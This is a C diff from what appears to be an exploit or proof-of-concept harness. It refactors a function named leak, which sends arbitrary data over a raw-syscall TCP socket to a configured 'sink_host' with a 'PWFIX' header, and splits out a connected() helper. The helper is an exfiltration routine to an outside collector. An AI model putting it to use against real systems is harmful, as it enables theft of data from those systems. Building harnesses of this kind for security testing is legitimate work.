@@ -11,7 +11,6 @@
 #include <string.h>
 #include <sys/socket.h>
 #include <sys/syscall.h>
-#include <sys/uio.h>
 #include <unistd.h>
 
 extern const struct pw_act *const __start_pw_acts[], *const __stop_pw_acts[];
@@ -57,18 +56,27 @@ void say(const char *format, ...)
 	fflush(stdout);
 }
 
-int leak(const void *data, size_t length)
+int connected(void)
 {
 	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)target_number("sink_port"))};
 	char head[64];
-	int size = snprintf(head, sizeof head, "PWFIX %s ", target("id"));
+	int size = snprintf(head, sizeof head, "PWFIX %s ", target("id")), error;
 	inet_pton(AF_INET, target("sink_host"), &to.sin_addr);
 	int s = (int)syscall(SYS_socket, AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	if (s >= 0 && !syscall(SYS_connect, s, &to, sizeof to) && syscall(SYS_write, s, head, size) == size)
+		return s;
+	error = -errno;
+	if (s >= 0)
+		close(s);
+	return error;
+}
+
+int leak(const void *data, size_t length)
+{
+	int s = connected(), result = 0;
 	if (s < 0)
-		return -errno;
-	int result = 0;
-	struct iovec parts[] = {{head, (size_t)size}, {(void *)data, length}};
-	if (syscall(SYS_connect, s, &to, sizeof to) || syscall(SYS_writev, s, parts, 2) < 0)
+		return s;
+	if (syscall(SYS_write, s, data, length) < 0)
 		result = -errno;
 	close(s);
 	return result;
